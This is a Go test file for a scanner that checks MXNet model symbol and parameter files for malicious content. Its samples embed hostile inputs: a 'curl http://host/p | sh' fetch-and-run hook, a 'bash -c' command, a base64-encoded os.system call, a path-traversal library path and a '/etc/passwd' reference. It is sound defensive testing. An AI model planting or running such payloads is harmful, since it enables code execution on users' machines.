package mxnet_test

import (
	"context"
	"encoding/base64"
	"encoding/binary"
	"errors"
	"fmt"
	"os"
	"strings"
	"testing"

	"modelwall/scan"
	"modelwall/scan/mxnet"
	"modelwall/scan/scantest"
)

func symbol(nodes, attrs string) []byte {
	return fmt.Appendf(nil, `{"nodes": [{"op": "null", "name": "data", "inputs": []}, %s], "arg_nodes": [0], "heads": [[1, 0, 0]], "attrs": {%s}}`, nodes, attrs)
}

func by(t *testing.T, format string) scan.Scanner {
	t.Helper()
	for _, s := range mxnet.New() {
		if s.Format() == format {
			return s
		}
	}
	t.Fatalf("no scanner of %s", format)
	return nil
}

const conv = `{"op": "Convolution", "name": "c", "attrs": {"kernel": "(3, 3)", "op": "x"}, "inputs": [[0, 0, 0]]}`

func custom(attrs string) string {
	return `{"attrs": {` + attrs + `}, "op": "Custom", "name": "c", "inputs": [[0, 0, 0]]}`
}

func TestSymbol(t *testing.T) {
	const low, suspicious = scan.Low, scan.SeveritySuspicious
	payload := base64.StdEncoding.EncodeToString([]byte("# __import__('os').system('id')"))
	scantest.Run(t, by(t, "mxnet"), []scantest.Sample{
		{Name: "plain", Data: symbol(conv, `"mxnet_version": ["int", 10700], "metadata": "benign metadata"`)},
		{Name: "custom", Data: symbol(custom(`"op_type": "softmax"`), ""), Worst: low},
		{Name: "library", Data: symbol(custom(`"library": "../../tmp/libevil.so"`), ""), Worst: suspicious},
		{Name: "system file", Data: symbol(custom(`"file": "/etc/passwd"`), ""), Worst: suspicious},
		{Name: "encoded code", Data: symbol(conv, `"metadata": "`+payload+`"`), Worst: suspicious},
		{Name: "command", Data: symbol(conv, `"hook": "curl http://host/p | sh"`), Worst: suspicious},
		{Name: "deep", Data: symbol(conv, `"a": `+strings.Repeat("[", 1000)+strings.Repeat("]", 1000)+`, "hook": "bash -c 'id'"`), Worst: suspicious},
		{Name: "cut short", Data: symbol(conv, "")[:120], Err: scan.ErrMalformed},
		{Name: "another object", Data: []byte(`{"nodes": ["op"], "arg_nodes": 1}`), Err: scan.ErrForeign},
		{Name: "text", Data: []byte(`{"nodes" "op" are keys}`), Err: scan.ErrForeign},
	})
	f := scantest.Bytes("x", symbol(conv, ""))
	f.Size += 1000 // longer than the reader has
	if err := mxnet.New()[0].Scan(context.Background(), f, &scantest.Record{}); err == nil || errors.Is(err, scan.ErrMalformed) {
		t.Errorf("error = %v, want the reader's own", err)
	}
}

func TestParameters(t *testing.T) {
	s := by(t, "mxnet-params")
	le := binary.LittleEndian
	data := le.AppendUint64(le.AppendUint64(le.AppendUint64(nil, 0x112), 0), 1)
	if !s.Match(scantest.Probe("x", data)) || s.Match(scantest.Probe("x", data[1:])) || s.Match(scantest.Probe("x", data[:20])) {
		t.Error("parameters are recognised by something else than their first 16 bytes")
	}
	if r, err := scantest.Scan(s, "x", data); err != nil || len(r.Findings) > 0 {
		t.Errorf("findings %+v, error %v", r.Findings, err)
	}
}

const corpus = "../../../shared/corpus"

func TestCorpus(t *testing.T) {
	if _, err := os.Stat(corpus); err != nil {
		t.Skip("the sample corpus is not here")
	}
	seen := 0
	for _, e := range scantest.Corpus(t, corpus) {
		if !strings.Contains(e.Path, "/mxnet__") || !strings.HasSuffix(e.Path, "-symbol.json") {
			continue
		}
		data, err := os.ReadFile(e.Path)
		if err != nil {
			t.Fatal(err)
		}
		seen++
		r, err := scantest.Scan(mxnet.New()[0], e.Path, data)
		if err != nil || (r.Worst() >= scan.SeveritySuspicious) != (e.Label != "benign") {
			t.Errorf("%s is %s: %+v, %v", e.Path, e.Label, r.Findings, err)
		}
	}
	if seen == 0 {
		t.Error("no samples")
	}
}

func FuzzScan(f *testing.F) {
	f.Add(symbol(custom(`"library": "/x.so"`), `"a": [1]`))
	f.Fuzz(func(t *testing.T, data []byte) {
		for _, s := range mxnet.New() {
			scantest.Fuzz(t, s, data)
		}
	})
}
